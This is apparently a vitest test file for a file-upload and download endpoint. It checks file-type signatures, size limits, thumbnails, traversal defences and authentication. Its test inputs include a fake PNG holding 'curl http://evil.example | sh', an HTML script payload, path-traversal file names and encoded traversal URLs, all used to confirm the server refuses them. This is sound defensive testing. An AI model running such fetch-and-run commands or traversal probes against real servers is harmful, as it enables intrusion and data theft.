import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_PREFIX } from '../src/plugins/guard.js';
import { createTestApp, multipart, type Part, type TestApp, tokenFor } from './helpers.js';

const URL_SHAPE = /^\/uploads\/\d{4}\/\d{2}\/[0-9a-f]{32}\.([a-z0-9]+)$/;

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3366ff' } })
    .png()
    .toBuffer();
const jpeg = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#ff6633' } })
    .jpeg()
    .toBuffer();

describe('POST uploadPictures and GET /uploads', () => {
  let t: TestApp;
  let token: string;
  let adminId: number;

  beforeAll(async () => {
    t = await createTestApp();
    token = await tokenFor(t.app, 'admin');
    adminId = (
      await t.app.db
        .selectFrom('admins')
        .select('id')
        .where('username', '=', 'admin')
        .executeTakeFirstOrThrow()
    ).id;
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(t.config.dataDir, { recursive: true, force: true });
  });

  function upload(parts: Part[], opts: { lang?: 'zh' | 'en'; auth?: boolean } = {}) {
    const { payload, headers } = multipart(parts);
    if (opts.auth !== false) headers.authorization = `Bearer ${token}`;
    headers.lang = opts.lang ?? 'zh';
    return t.app.inject({ method: 'POST', url: `${API_PREFIX}/uploadPictures`, payload, headers });
  }

  const getFile = (url: string) => t.app.inject({ method: 'GET', url });
  const uploadsDir = () => path.join(t.config.dataDir, 'uploads');
  const tempDir = () => path.join(t.config.dataDir, 'tmp', 'uploads');
  const tempFiles = () => (fs.existsSync(tempDir()) ? fs.readdirSync(tempDir()) : []);

  function expectRefused(res: Awaited<ReturnType<typeof upload>>, message: string, field = 'file') {
    expect(res.statusCode, res.body).toBe(422);
    const body = res.json();
    expect(body.status).toBe(42200);
    expect(body.message).toBe(message);
    expect(body.errors[field]).toEqual([message]);
  }

  it('stores a PNG under a random name, writes the _300 and _64 copies and serves them back', async () => {
    const image = await png(640, 320);
    const res = await upload([
      { name: 'type', value: '2' },
      { name: 'size', value: '5' },
      { name: 'file', filename: 'holiday photo.PNG', content: image, type: 'image/png' },
    ]);
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.result).toBe('ok');
    const url: string = body.message;
    expect(url).toMatch(URL_SHAPE);
    const now = new Date();
    expect(url).toContain(`/${now.getUTCFullYear()}/${String(now.getUTCMonth() + 1).padStart(2, '0')}/`);
    expect(url).not.toContain('holiday');

    const served = await getFile(url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.rawPayload.equals(image)).toBe(true);

    const thumbUrl = url.replace(/\.png$/, '_300.png');
    const thumb = await getFile(thumbUrl);
    expect(thumb.statusCode).toBe(200);
    const meta = await sharp(thumb.rawPayload).metadata();
    expect(meta).toMatchObject({ format: 'png', width: 300, height: 150 });
    expect(fs.existsSync(path.join(uploadsDir(), thumbUrl.slice('/uploads/'.length)))).toBe(true);
    // The list pictures' copy: 32 px on screen, sharp on 2× screens.
    const small = await getFile(url.replace(/\.png$/, '_64.png'));
    expect(small.statusCode).toBe(200);
    expect(small.headers['content-type']).toBe('image/png');
    expect(await sharp(small.rawPayload).metadata()).toMatchObject({ format: 'png', width: 64, height: 32 });

    const row = await t.app.db
      .selectFrom('uploads')
      .selectAll()
      .where('path', '=', url.slice('/uploads/'.length))
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({
      admin_id: adminId,
      group_name: 'photo',
      original_name: 'holiday photo.PNG',
      size: image.length,
      mime: 'image/png',
    });
    expect(tempFiles()).toEqual([]);
  });

  it('accepts a JPEG and never enlarges its small copy', async () => {
    const image = await jpeg(120, 80);
    const res = await upload([{ name: 'file', filename: 'small.jpg', content: image }]);
    expect(res.statusCode, res.body).toBe(200);
    const url: string = res.json().message;
    expect(url).toMatch(/\.jpg$/);
    const thumb = await getFile(url.replace(/\.jpg$/, '_300.jpg'));
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/jpeg');
    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({
      format: 'jpeg',
      width: 120,
      height: 80,
    });
  });

  it('refuses a script renamed .png, a fake JPEG and a PNG signature that does not decode', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    expectRefused(
      await upload([{ name: 'file', filename: 'cute.png', content: script }]),
      '上传文件格式不正确!',
    );
    const html = Buffer.from('<html><script>alert(1)</script></html>');
    expectRefused(
      await upload([{ name: 'file', filename: 'x.jpg', content: html }], { lang: 'en' }),
      'The uploaded file format is incorrect!',
    );
    const fakePng = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomBytes(200)]);
    expectRefused(
      await upload([{ name: 'file', filename: 'broken.png', content: fakePng }]),
      '上传文件格式不正确!',
    );
    // A real PNG under a name whose extension the group does not allow.
    expectRefused(
      await upload([{ name: 'file', filename: 'image.svg', content: await png(10, 10) }]),
      '上传文件格式不正确!',
    );
    expect(tempFiles()).toEqual([]);
  });

  it('refuses a file of the wrong group and an unknown group', async () => {
    const image = await png(20, 20);
    expectRefused(
      await upload([
        { name: 'type', value: 'video' },
        { name: 'file', filename: 'a.png', content: image },
      ]),
      '上传文件格式不正确!',
    );
    // The group may also arrive after the file.
    expectRefused(
      await upload([
        { name: 'file', filename: 'a.png', content: image },
        { name: 'type', value: 'video' },
      ]),
      '上传文件格式不正确!',
    );
    expectRefused(
      await upload(
        [
          { name: 'type', value: 'scripts' },
          { name: 'file', filename: 'a.png', content: image },
        ],
        { lang: 'en' },
      ),
      'Unknown upload type',
      'type',
    );
    expect(tempFiles()).toEqual([]);
  });

  it('checks documents by signature: zip-based office files, OLE, PDF and UTF-8 text', async () => {
    const zip = Buffer.concat([Buffer.from('504b0304', 'hex'), randomBytes(64)]);
    const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), randomBytes(64)]);
    const ok = async (type: string, filename: string, content: Buffer) => {
      const res = await upload([
        { name: 'type', value: type },
        { name: 'file', filename, content },
      ]);
      expect(res.statusCode, `${filename}: ${res.body}`).toBe(200);
      const served = await getFile(res.json().message);
      expect(served.rawPayload.equals(content)).toBe(true);
      return res.json().message as string;
    };
    await ok('other', 'report.docx', zip);
    await ok('other', 'old.xls', ole);
    await ok('info', 'sheet.et', ole);
    await ok('bill', 'invoice.pdf', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n'));
    const txtUrl = await ok('certificate', '说明.txt', Buffer.from('资产清单\nline two\n'));
    expect((await getFile(txtUrl)).headers['content-type']).toMatch(/^text\/plain/);
    await ok('verify', 'data.csv', Buffer.from('code,name\nA1,桌子\n'));

    const gif = await sharp({ create: { width: 400, height: 100, channels: 3, background: '#00aa00' } })
      .gif()
      .toBuffer();
    const gifUrl = await ok('certificate', 'badge.gif', gif);
    const gifThumb = await getFile(gifUrl.replace(/\.gif$/, '_300.gif'));
    expect(await sharp(gifThumb.rawPayload).metadata()).toMatchObject({ format: 'gif', width: 300 });

    const refuse = async (type: string, filename: string, content: Buffer) =>
      expectRefused(
        await upload([
          { name: 'type', value: type },
          { name: 'file', filename, content },
        ]),
        '上传文件格式不正确!',
      );
    await refuse('other', 'report.doc', zip);
    await refuse('other', 'report.docx', ole);
    await refuse('other', 'notes.txt', Buffer.from('abc\u0000def'));
    await refuse('other', 'notes.txt', Buffer.from([0x61, 0xff, 0xfe, 0x62]));
    await refuse('verify', 'data.csv', Buffer.from([0x61, 0x62, 0xe4, 0xbd]));
  });

  it('refuses a file over the limit with the limit in the message', async () => {
    const big = Buffer.concat([await png(8, 8), Buffer.alloc(1024 * 1024 + 10)]);
    expectRefused(
      await upload([
        { name: 'type', value: 'photo' },
        { name: 'size', value: '1' },
        { name: 'file', filename: 'big.png', content: big },
      ]),
      '上传文件大小不能超过 1M',
    );
    // The requested size cannot raise the group's limit (5 MB by default).
    const huge = Buffer.concat([await png(8, 8), Buffer.alloc(5 * 1024 * 1024 + 10)]);
    expectRefused(
      await upload(
        [
          { name: 'type', value: 'photo' },
          { name: 'size', value: '50' },
          { name: 'file', filename: 'huge.png', content: huge },
        ],
        { lang: 'en' },
      ),
      'The uploaded file must be smaller than 5M',
    );
    // Over the largest limit with no group yet: cut off while streaming.
    const enormous = Buffer.alloc(11 * 1024 * 1024);
    expectRefused(
      await upload([{ name: 'file', filename: 'enormous.png', content: enormous }]),
      '上传文件大小不能超过 10M',
    );
    expect(tempFiles()).toEqual([]);
  });

  it('stops reading a file as soon as it passes the limit (never buffers the whole body)', async () => {
    const boundary = 'bo-stream-boundary';
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="type"\r\n\r\nphoto\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="size"\r\n\r\n2\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="endless.png"\r\n\r\n`,
    );
    const total = 500 * 1024 * 1024;
    const chunk = Buffer.alloc(64 * 1024);
    let sent = 0;
    // 500 MB offered lazily; the request must be responded to long before they are all pulled.
    const body = new Readable({
      read() {
        if (sent === 0) this.push(head);
        if (sent >= total) return this.push(null);
        sent += chunk.length;
        this.push(chunk);
      },
    });
    const res = await t.app.inject({
      method: 'POST',
      url: `${API_PREFIX}/uploadPictures`,
      payload: body,
      headers: {
        'content-type': `multipart/form-data; boundary=${boundary}`,
        authorization: `Bearer ${token}`,
      },
    });
    expectRefused(res, '上传文件大小不能超过 2M');
    expect(sent).toBeLessThan(20 * 1024 * 1024);
    expect(tempFiles()).toEqual([]);
  });

  it('lets avatars (type 1) be up to 10 MB', async () => {
    const raw = { width: 1500, height: 1300, channels: 3 as const };
    const noisy = await sharp(randomBytes(raw.width * raw.height * 3), { raw })
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(noisy.length).toBeGreaterThan(5 * 1024 * 1024);
    expect(noisy.length).toBeLessThan(10 * 1024 * 1024);
    const asPhoto = await upload([
      { name: 'type', value: 'photo' },
      { name: 'file', filename: 'me.png', content: noisy },
    ]);
    expectRefused(asPhoto, '上传文件大小不能超过 5M');
    const asAvatar = await upload([
      { name: 'type', value: '1' },
      { name: 'file', filename: 'me.png', content: noisy },
    ]);
    expect(asAvatar.statusCode, asAvatar.body).toBe(200);
    const row = await t.app.db
      .selectFrom('uploads')
      .select('group_name')
      .where('path', '=', asAvatar.json().message.slice('/uploads/'.length))
      .executeTakeFirstOrThrow();
    expect(row.group_name).toBe('avatar');
  });

  it('stores a path-traversal file name safely', async () => {
    const image = await png(16, 16);
    for (const filename of ['../../../escape.png', '..\\..\\escape.png', '/etc/passwd.png']) {
      const res = await upload([{ name: 'file', filename, content: image }]);
      expect(res.statusCode, res.body).toBe(200);
      const url: string = res.json().message;
      expect(url).toMatch(URL_SHAPE);
      const stored = path.join(uploadsDir(), url.slice('/uploads/'.length));
      expect(fs.readFileSync(stored).equals(image)).toBe(true);
    }
    expect(fs.existsSync(path.join(t.config.dataDir, 'escape.png'))).toBe(false);
    expect(fs.existsSync(path.join(t.config.dataDir, '..', 'escape.png'))).toBe(false);
    expect(fs.existsSync(path.join(uploadsDir(), 'escape.png'))).toBe(false);
  });

  it('responds with 404 or 400 to traversal, listing and unknown files', async () => {
    fs.writeFileSync(path.join(t.config.dataDir, 'secret.txt'), 'top secret');
    const image = await png(16, 16);
    const url: string = (await upload([{ name: 'file', filename: 'a.png', content: image }])).json().message;
    const dir = url.slice(0, url.lastIndexOf('/'));
    const attempts = [
      '/uploads/../secret.txt',
      '/uploads/..%2fsecret.txt',
      '/uploads/%2e%2e/secret.txt',
      '/uploads/%2e%2e%2fsecret.txt',
      `${dir}/../../../secret.txt`,
      `${dir}/..%2f..%2f..%2fsecret.txt`,
      '/uploads/..%5csecret.txt',
      '/uploads/',
      '/uploads',
      `${dir}/`,
      dir,
      `${dir}/${'0'.repeat(32)}.png`,
      `${url}/`,
      `${url}%00.txt`,
    ];
    for (const attempt of attempts) {
      const res = await getFile(attempt);
      expect([400, 404], `${attempt} → ${res.statusCode}`).toContain(res.statusCode);
      expect(res.body).not.toContain('top secret');
    }
  });

  it('refuses a request without a file, with two files, or without a session', async () => {
    expectRefused(await upload([{ name: 'type', value: '2' }]), '请选择要上传的文件');
    expectRefused(
      await upload([{ name: 'file', filename: 'empty.png', content: Buffer.alloc(0) }], { lang: 'en' }),
      'Please choose a file to upload',
    );
    const json = await t.app.inject({
      method: 'POST',
      url: `${API_PREFIX}/uploadPictures`,
      headers: { authorization: `Bearer ${token}` },
      payload: { file: 'x' },
    });
    expect(json.statusCode).toBe(422);
    const image = await png(16, 16);
    const two = await upload([
      { name: 'file', filename: 'a.png', content: image },
      { name: 'file', filename: 'b.png', content: image },
    ]);
    expect(two.statusCode).toBe(422);
    expect(two.json().message).toBe('最多只能上传1个');

    // A body cut off in the middle of the file.
    const { payload, headers } = multipart([{ name: 'file', filename: 'cut.png', content: image }]);
    const cut = await t.app.inject({
      method: 'POST',
      url: `${API_PREFIX}/uploadPictures`,
      payload: payload.subarray(0, payload.length - 60),
      headers: { ...headers, authorization: `Bearer ${token}` },
    });
    expect(cut.statusCode, cut.body).toBe(400);
    expect(cut.json().status).toBe(40000);
    expect(tempFiles()).toEqual([]);

    const before = await t.app.db.selectFrom('uploads').select('id').execute();
    const anonymous = await upload([{ name: 'file', filename: 'a.png', content: image }], { auth: false });
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json().status).toBe(40100);
    expect(await t.app.db.selectFrom('uploads').select('id').execute()).toHaveLength(before.length);
  });
});
